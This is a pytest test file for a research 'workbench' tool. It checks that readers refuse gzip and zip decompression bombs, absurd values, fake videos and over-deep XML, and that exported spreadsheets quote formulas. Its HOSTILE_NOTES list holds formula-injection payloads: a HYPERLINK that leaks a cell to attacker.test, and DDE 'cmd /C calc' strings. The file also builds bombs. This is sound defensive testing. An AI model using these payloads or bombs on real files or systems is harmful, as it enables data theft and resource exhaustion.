"""Hostile and absurd input: compressed bombs, absurd values, spreadsheet formulas (issue 12).

Bombs are generated here, never committed: a gzip "bomb" is one gzip member of 64 MiB of zeros
(64 KiB compressed) repeated, which gzip readers decompress as one stream (48 members: a 3 MB file
that unpacks to 3 GiB); a zip bomb is one member of 288 MiB of zeros (over the 256 MiB limit).
Peak memory is measured in a fresh process (``ru_maxrss`` of its child, see :func:`_peak`), so
other tests do not count.
"""

from __future__ import annotations

import gzip
import json
import subprocess
import sys
import textwrap
import zipfile
from fractions import Fraction
from functools import cache
from pathlib import Path

import numpy as np
import pytest

from workbench.errors import FormatError, WorkbenchError

MiB = 1024**2
GiB = 1024**3

#: A refused bomb must stay well under this (the issue: "well under 1.5 GB for any input").
PEAK_LIMIT_MIB = 1024


@cache
def _zeros_member() -> bytes:
    return gzip.compress(b"\0" * (64 * MiB), compresslevel=9)


def gzip_bomb(path: Path, unpacked: int = 3 * GiB) -> Path:
    """A gzip file of ``unpacked`` bytes of zeros (multiple members of 64 MiB each; about 1/1000 the size)."""
    member = _zeros_member()
    with open(path, "wb") as fh:
        for _ in range(unpacked // (64 * MiB)):
            fh.write(member)
    return path


def zip_bomb(path: Path, member: str = "project.otx", unpacked: int = 288 * MiB) -> Path:
    """A zip archive whose one member unzips to ``unpacked`` bytes of zeros."""
    chunk = b"\0" * (16 * MiB)
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open(member, "w", force_zip64=True) as fh,
    ):
        for _ in range(unpacked // len(chunk)):
            fh.write(chunk)
    return path


_PEAK = textwrap.dedent(
    """
    import resource, subprocess, sys
    done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
    sys.stdout.write(done.stdout)
    sys.stderr.write(done.stderr)
    print(f"PEAK_KIB {resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}")
    sys.exit(done.returncode)
    """
)


def _peak(*argv: str, env: dict[str, str] | None = None) -> tuple[subprocess.CompletedProcess[str], float]:
    """Run ``argv`` in a fresh process; its result and its peak resident memory in MiB."""
    done = subprocess.run([sys.executable, "-c", _PEAK, *argv], capture_output=True, text=True, timeout=600, env=env)
    line = next(x for x in done.stdout.splitlines() if x.startswith("PEAK_KIB "))
    return done, int(line.split()[1]) / 1024


def _read_in_child(reader: str, path: Path, extra: str = "") -> tuple[subprocess.CompletedProcess[str], float]:
    code = textwrap.dedent(
        f"""
        import sys
        from workbench.errors import WorkbenchError
        from workbench import io
        try:
            io.{reader}(sys.argv[1]{extra})
        except WorkbenchError as exc:
            print(type(exc).__name__, exc, file=sys.stderr)
            sys.exit(2)
        """
    )
    return _peak(sys.executable, "-c", code, str(path))


# -- compressed bombs -----------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "reader"), [("coding.eaf", "read_eaf"), ("coding.csv", "read_table")])
def test_a_gzip_bomb_named_eaf_or_csv_is_refused_unread(tmp_path: Path, name: str, reader: str) -> None:
    """ELAN and table files are never compressed: a gzip file is refused before a byte is unpacked."""
    bomb = gzip_bomb(tmp_path / name)
    assert bomb.stat().st_size < 4 * MiB
    done, peak = _read_in_child(reader, bomb)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
    assert "FormatError Expected" in done.stderr and str(bomb) in done.stderr and "gzip-compressed" in done.stderr
    assert peak < 300, f"{name}: peak {peak:.0f} MiB"


@pytest.mark.parametrize(
    ("name", "reader", "refusal"),
    [
        # BORIS writes .boris.gz, so gzip is read, but only up to 256 MiB unpacked, chunk by chunk
        ("project.boris", "read_boris", "decompresses to more than 256 MiB"),
        # an .otb is a zip: its member is refused by its declared size, else read up to the limit
        ("export.otb", "read_otx", "holds 'project.otx', which unzips to 301,989,888 bytes"),
    ],
)
def test_a_bomb_in_a_compressed_format_is_refused_at_the_limit(
    tmp_path: Path, name: str, reader: str, refusal: str
) -> None:
    bomb = zip_bomb(tmp_path / name) if name.endswith(".otb") else gzip_bomb(tmp_path / name)
    done, peak = _read_in_child(reader, bomb)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert f"of at most 256 MiB, but {str(bomb)!r} {refusal}" in done.stderr
    assert "WORKBENCH_MAX_INPUT_BYTES" in done.stderr
    assert peak < PEAK_LIMIT_MIB, f"{name}: peak {peak:.0f} MiB"


def test_the_zip_member_is_unpacked_only_up_to_the_limit(tmp_path: Path) -> None:
    """A member within the declared size is still read chunk by chunk and refused past the limit."""
    from workbench.io import read_otx

    bomb = zip_bomb(tmp_path / "small.otb", unpacked=32 * MiB)
    with pytest.raises(FormatError, match=r"of at most 16 MiB, but '.*small\.otb' holds 'project\.otx'"):
        read_otx(bomb, max_bytes=16 * MiB)


@pytest.mark.filterwarnings("ignore:.*unpaired state events:UserWarning")
def test_the_byte_limit_is_configurable_by_environment_and_argument(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from workbench.io import read_boris

    boris = tmp_path / "project.boris"
    real = (Path(__file__).parent / "data" / "BORIS" / "test.boris").read_bytes()
    boris.write_bytes(gzip.compress(real))
    assert read_boris(boris, unpaired="skip").observations  # a real .boris.gz is read
    with pytest.raises(FormatError, match=r"of at most 1 KiB, but '.*project\.boris' decompresses to more than 1 KiB"):
        read_boris(boris, max_bytes=1024)
    monkeypatch.setenv("WORKBENCH_MAX_INPUT_BYTES", "2K")
    with pytest.raises(FormatError, match="decompresses to more than 2 KiB"):
        read_boris(boris)
    assert read_boris(boris, unpaired="skip", max_bytes=len(real)).observations  # the argument wins
    monkeypatch.setenv("WORKBENCH_MAX_INPUT_BYTES", "lots")
    with pytest.raises(WorkbenchError, match="WORKBENCH_MAX_INPUT_BYTES to be a number of bytes"):
        read_boris(boris)
    monkeypatch.setenv("WORKBENCH_MAX_INPUT_BYTES", "1G")
    monkeypatch.setenv("WORKBENCH_MAX_INPUT_ITEMS", "0")
    with pytest.raises(WorkbenchError, match="WORKBENCH_MAX_INPUT_ITEMS to be positive, but got '0'"):
        read_boris(boris)


def test_a_large_plain_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    from workbench.io import read_table

    table = tmp_path / "coding.csv"
    table.write_text("actor,code,onset_ms\n" + "parent,waiting,0\n" * 1000, encoding="utf-8")
    with pytest.raises(FormatError, match=r"of at most 1 KiB, but '.*coding\.csv' holds 16\.\d KiB"):
        read_table(table, max_bytes=1024)


@pytest.mark.parametrize(
    ("name", "reader", "body", "unit"),
    [
        ("many.eaf", "read_eaf", b"<ANNOTATION_DOCUMENT>" + b"<a/>" * 2000 + b"</ANNOTATION_DOCUMENT>", "XML tags"),
        ("many.csv", "read_table", b"actor,code,onset_ms\n" + b"\n" * 2000, "lines"),
        (
            "many.boris",
            "read_boris",
            b'{"behaviors_conf": {}, "observations": {}, "x": [' + b"0," * 2000 + b"0]}",
            "JSON values",
        ),
    ],
)
def test_many_tiny_items_are_refused_before_they_are_parsed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, reader: str, body: bytes, unit: str
) -> None:
    """Memory follows the number of elements, rows or values more than bytes: that is limited too."""
    from workbench import io

    path = tmp_path / name
    path.write_bytes(body)
    monkeypatch.setenv("WORKBENCH_MAX_INPUT_ITEMS", "1000")
    with pytest.raises(FormatError, match=rf"with at most 1,000 {unit}, but '.*{name}' has 2,0\d\d"):
        getattr(io, reader)(path)
    with pytest.raises(FormatError, match=rf"at most 100 {unit}"):
        getattr(io, reader)(path, max_items=100)


def test_a_gzip_bomb_import_names_the_file_and_stores_nothing(project_recording, _project_target, tmp_path) -> None:
    """`workbench import` of a bomb: one clear line, exit 2, bounded memory, the project unchanged."""
    project, rec = project_recording
    if project.dialect != "sqlite":
        pytest.skip("the command line opens project folders")
    folder = Path(_project_target[0])

    def state() -> tuple[list[tuple], list[str]]:
        with project.engine.connect() as conn:
            rows = conn.exec_driver_sql("SELECT * FROM annotations").all()
            audit = conn.exec_driver_sql("SELECT COUNT(*) FROM audit_log").scalar()
        files = sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if not p.name.startswith("workbench.db"))
        return [tuple(r) for r in rows] + [("audit", audit)], files

    before = state()
    for name in ("visit.eaf", "visit.csv"):
        bomb = gzip_bomb(tmp_path / name)
        done, peak = _peak(
            sys.executable, "-m", "workbench", "import", str(folder), str(bomb), "--recording", str(rec.id)
        )
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith("workbench import: error: Expected ") and str(bomb) in done.stderr
        assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
        assert peak < 400, f"{name}: peak {peak:.0f} MiB"
        assert state() == before


# -- absurd values ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("-3", "holds -3"),
        ("NaN", "holds 'NaN'"),
        ("nan", "holds 'nan'"),
        ("inf", "holds inf"),
        ("-Inf", "holds -inf"),
        ("1e308", "holds 1e+308"),
    ],
)
def test_mea_values_that_are_not_motion_energy_are_refused(tmp_path: Path, cell: str, shown: str) -> None:
    from workbench.analysis.synchrony import read_mea

    path = tmp_path / "200_01.txt"
    path.write_text(f'"pat" "th"\n1550 6948\n{cell} 5657\n1291 {cell}\n', encoding="utf-8")
    with pytest.raises(FormatError) as info:
        read_mea(path, 25)
    message = str(info.value)
    assert str(path) in message and "column 0 (s1_col)" in message and "data row 2" in message, message
    assert shown in message and "Expected" in message


def test_mea_missing_values_stay_missing_and_large_real_values_are_kept(tmp_path: Path) -> None:
    """R's NA and empty cells are missing samples; a whole 8K frame of changed pixels is motion energy."""
    from workbench.analysis.synchrony import read_mea

    path = tmp_path / "200_01.csv"
    path.write_text("pat,th\n1550,6948\nNA,5657\n,33177600\n", encoding="utf-8")
    mea = read_mea(path, 25)
    assert np.isnan(mea.s1[1:]).all() and mea.s2.tolist() == [6948, 5657, 33177600]


def test_a_gzip_bomb_named_mea_is_refused(tmp_path: Path) -> None:
    from workbench.analysis.synchrony import read_mea

    bomb = gzip_bomb(tmp_path / "200_01.txt", unpacked=64 * MiB)
    with pytest.raises(FormatError, match=r"Expected an MEA text file .* as plain text in '.*200_01\.txt'"):
        read_mea(bomb, 25)


def write_timed_video(path: Path, time_base: Fraction, step: int, frames: int = 3) -> Path:
    """An H.264 MP4 of ``frames`` numbered frames, ``step`` units of ``time_base`` apart (any rate at all)."""
    import av

    from workbench.media import numbered_frame

    with av.open(str(path), "w", format="mp4") as container:
        stream = container.add_stream("libx264", rate=25)
        stream.width, stream.height, stream.pix_fmt = 320, 240, "yuv420p"
        stream.codec_context.time_base = stream.time_base = time_base
        for i in range(frames):
            frame = av.VideoFrame.from_ndarray(numbered_frame(i), format="bgr24").reformat(format="yuv420p")
            frame.pts, frame.time_base = i * step, time_base
            container.mux(stream.encode(frame))
        container.mux(stream.encode())
    return path


@pytest.fixture(scope="module")
def absurd_videos(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Files that probe as 'videos' no recording can be: each with the phrase its refusal must hold."""
    import cv2

    from workbench.media import numbered_frame, write_video

    folder = tmp_path_factory.mktemp("absurd")
    png = folder / "family.png"
    cv2.imwrite(str(png), numbered_frame(1))
    jpeg = folder / "family.jpg"
    cv2.imwrite(str(jpeg), numbered_frame(2))
    return {
        "a million fps": write_timed_video(folder / "million-fps.mp4", Fraction(1, 1_000_000), 1),
        "frames 10000 s apart": write_timed_video(folder / "8-hours-3-frames.mp4", Fraction(1, 1), 10_000),
        "a PNG named .mp4": png.rename(folder / "png-named.mp4"),
        "a JPEG named .mp4": jpeg.rename(folder / "jpeg-named.mp4"),
        "one frame": write_video(folder / "one-frame.mp4", [numbered_frame(0)], fps=25),
    }


_REFUSALS = {
    "a million fps": r"has frames 0\.5 ms apart \(median; 2000 fps\)",
    "frames 10000 s apart": r"has 3 frames in 5:33:20 \(0\.00015 fps\)",
    "a PNG named .mp4": r"is a still image \(png\), not a video",
    "a JPEG named .mp4": r"is a still image \(jpeg\), not a video",
    "one frame": r"has 1 frame: a still picture, not a video",
}


@pytest.mark.parametrize("kind", list(_REFUSALS))
def test_absurd_videos_are_not_registered(project, absurd_videos: dict[str, Path], kind: str) -> None:
    from workbench.errors import MediaError

    case = project.add_case("Family A", "Jane Example")
    session = project.add_session(case, "filming", "2026-01-15")
    video = absurd_videos[kind]
    with pytest.raises(MediaError, match=_REFUSALS[kind]) as info:
        project.add_recording(session, video)
    assert repr(str(video)) in str(info.value) and str(info.value).startswith("Expected a")
    assert project.recordings() == []
    media = project.folder / "media" if project.folder is not None else None
    assert media is None or not media.exists() or list(media.iterdir()) == []


def test_slow_motion_and_slow_webcams_are_registered(project, tmp_path: Path) -> None:
    """240 fps (phone slow motion) and 2 fps (a struggling webcam) are real recordings."""
    from workbench.media import numbered_frame, write_video

    case = project.add_case("Family A", "Jane Example")
    session = project.add_session(case, "filming", "2026-01-15")
    for fps in (240, 2):
        video = write_video(tmp_path / f"{fps}.mp4", (numbered_frame(i) for i in range(10)), fps=fps)
        rec = project.add_recording(session, video)
        assert rec.fps == pytest.approx(fps) and rec.frame_count == 10


def test_registering_absurd_videos_keeps_memory_small(absurd_videos: dict[str, Path], tmp_path: Path) -> None:
    code = textwrap.dedent(
        """
        import sys
        import workbench
        from workbench.errors import MediaError
        project = workbench.open_project(sys.argv[1], create=True)
        session = project.add_session(project.add_case("Family A", "Jane Example"), "filming", "2026-01-15")
        for video in sys.argv[2:]:
            try:
                project.add_recording(session, video)
            except MediaError as exc:
                print("refused", video)
        """
    )
    done, peak = _peak(sys.executable, "-c", code, str(tmp_path / "p"), *map(str, absurd_videos.values()))
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("refused") == len(absurd_videos)
    assert peak < 400, f"peak {peak:.0f} MiB"


# -- spreadsheet formulas --------------------------------------------------------------------------

HOSTILE_NOTES = [
    '=HYPERLINK("https://attacker.test/?leak="&A1, "see the clip")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
]
HARMLESS_NOTES = ["-3", "+1.5e3", "-.5", "a - b", "'just a quote", "", "plain = fine"]


def _table_with(notes: list[str]):
    from workbench.annotations import AnnotationTable

    rows = [
        {
            "actor": "parent",
            "code": "waiting",
            "onset_ms": 100 * i,
            "offset_ms": 100 * i + 50,
            "coder": "tester",
            "note": note,
            "=cmd|' /C calc'!A0": note,
            "delta": -i,
        }
        for i, note in enumerate(notes)
    ]
    return AnnotationTable(rows)


def _cells(path: Path) -> list[list[str]]:
    import csv

    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh, delimiter="\t" if path.suffix == ".tsv" else ","))


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_text_a_spreadsheet_would_run_is_written_quoted_and_read_back_as_it_was(tmp_path: Path, suffix: str) -> None:
    from workbench.io import read_table, write_table

    notes = HOSTILE_NOTES + HARMLESS_NOTES
    table = _table_with(notes)
    path = write_table(table, tmp_path / f"coding{suffix}")
    header, *rows = _cells(path)
    assert "'=cmd|' /C calc'!A0" in header and "delta" in header
    written = {row[header.index("note")] for row in rows}
    for note in HOSTILE_NOTES:
        assert "'" + note in written, note  # a spreadsheet shows it as text
    for note in HARMLESS_NOTES:
        assert note in written, note  # numbers and ordinary text untouched
    deltas = sorted(int(row[header.index("delta")]) for row in rows)
    assert deltas == sorted(-i for i in range(len(notes)))  # negative numbers stay numbers
    back = read_table(path).to_dataframe()
    assert sorted(back["note"]) == sorted(notes)
    assert sorted(back["=cmd|' /C calc'!A0"].fillna("")) == sorted(notes)


def test_raw_writes_every_cell_as_it_is(tmp_path: Path) -> None:
    from workbench.io import read_table, write_table

    path = write_table(_table_with(HOSTILE_NOTES), tmp_path / "raw.csv", raw=True)
    header, *rows = _cells(path)
    assert "=cmd|' /C calc'!A0" in header
    assert sorted(row[header.index("note")] for row in rows) == sorted(HOSTILE_NOTES)
    kept = read_table(path, unquote=False).to_dataframe()
    assert sorted(kept["note"]) == sorted(HOSTILE_NOTES)


def test_workbench_export_quotes_formulas_unless_raw(project_recording, _project_target, tmp_path: Path) -> None:
    project, rec = project_recording
    if project.dialect != "sqlite":
        pytest.skip("the command line opens project folders")
    project.add_annotation(rec, "parent", "waiting", 0, 400, note=HOSTILE_NOTES[0])
    project.close()
    folder = _project_target[0]
    for name, extra, expected in (
        ("safe.tsv", [], "'" + HOSTILE_NOTES[0]),
        ("safe.csv", [], "'" + HOSTILE_NOTES[0]),
        ("raw.csv", ["--raw"], HOSTILE_NOTES[0]),
    ):
        out = tmp_path / name
        argv = ["-m", "workbench", "export", folder, "--recording", str(rec.id), "--out", str(out), *extra]
        done, peak = _peak(sys.executable, *argv)
        assert done.returncode == 0, done.stderr
        header, row = _cells(out)
        assert row[header.index("note")] == expected
        assert peak < 400, f"peak {peak:.0f} MiB"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "workbench",
            "export",
            folder,
            "--recording",
            str(rec.id),
            "--out",
            str(tmp_path / "x.eaf"),
            "--raw",
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 2 and "with --raw, but got 'x.eaf'" in done.stderr
    assert not (tmp_path / "x.eaf").exists()


@pytest.mark.parametrize(
    ("name", "reader", "body", "reason"),
    [
        (
            "deep.eaf",
            "read_eaf",
            b"<ANNOTATION_DOCUMENT>" + b"<a>" * 300 + b"</a>" * 300 + b"</ANNOTATION_DOCUMENT>",
            "Excessive depth",
        ),
        ("long.otx", "read_otx", b"<a>" + b"x" * (11 * MiB) + b"</a>", "Resource limit exceeded: Text node too long"),
    ],
)
def test_libxml2_limits_stay_on(tmp_path: Path, name: str, reader: str, body: bytes, reason: str) -> None:
    """No huge_tree: XML nested deeper than 256 or with a text node over 10 MB is not ELAN or Observer XT."""
    from workbench import io

    path = tmp_path / name
    path.write_bytes(body)
    with pytest.raises(FormatError, match=rf"'.*{name}', but it is not well-formed XML: {reason}"):
        getattr(io, reader)(path)


def _text_heavy(path: Path, size: int) -> Path:
    """A valid file of about ``size`` bytes, nearly all of it text: the most memory a reader can need per byte."""
    if path.suffix == ".csv":
        cell = "A" * (120 * 1024)  # under the csv module's field limit (128 KiB)
        with open(path, "w", encoding="utf-8") as fh:
            fh.write("actor,code,onset_ms,note\n")
            for i in range(size // len(cell)):
                fh.write(f"parent,waiting,{i},{cell}\n")
    elif path.suffix == ".eaf":
        value = b"A" * (9 * MiB)  # under libxml2's 10 MB text node limit
        n = size // len(value)
        with open(path, "wb") as fh:
            fh.write(b'<ANNOTATION_DOCUMENT><HEADER TIME_UNITS="milliseconds"/><TIME_ORDER>')
            fh.writelines(b'<TIME_SLOT TIME_SLOT_ID="ts%d" TIME_VALUE="%d"/>' % (i, 10 * i) for i in range(2 * n))
            fh.write(b'</TIME_ORDER><TIER LINGUISTIC_TYPE_REF="lt" TIER_ID="CHI">')
            for i in range(n):
                fh.write(
                    b'<ANNOTATION><ALIGNABLE_ANNOTATION ANNOTATION_ID="a%d" TIME_SLOT_REF1="ts%d" '
                    b'TIME_SLOT_REF2="ts%d"><ANNOTATION_VALUE>%s</ANNOTATION_VALUE>'
                    b"</ALIGNABLE_ANNOTATION></ANNOTATION>" % (i, 2 * i, 2 * i + 1, value)
                )
            fh.write(b'</TIER><LINGUISTIC_TYPE LINGUISTIC_TYPE_ID="lt" TIME_ALIGNABLE="true"/></ANNOTATION_DOCUMENT>')
    else:
        project = json.loads((Path(__file__).parent / "data" / "BORIS" / "test.boris").read_text(encoding="utf-8"))
        project["project_description"] = "A" * size
        path.write_text(json.dumps(project), encoding="utf-8")
    return path


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "reader"), [("fat.csv", "read_table"), ("fat.eaf", "read_eaf"), ("fat.boris", "read_boris")]
)
def test_a_file_just_under_the_limit_is_read_in_bounded_memory(tmp_path: Path, name: str, reader: str) -> None:
    """The worst case that is not refused: 250 MiB of text (the default limit is 256 MiB)."""
    path = _text_heavy(tmp_path / name, 250 * MiB)
    assert 240 * MiB < path.stat().st_size < 256 * MiB
    done, peak = _read_in_child(reader, path, ', unpaired="skip"' if reader == "read_boris" else "")
    assert done.returncode == 0, done.stderr
    assert peak < PEAK_LIMIT_MIB, f"{name}: peak {peak:.0f} MiB"
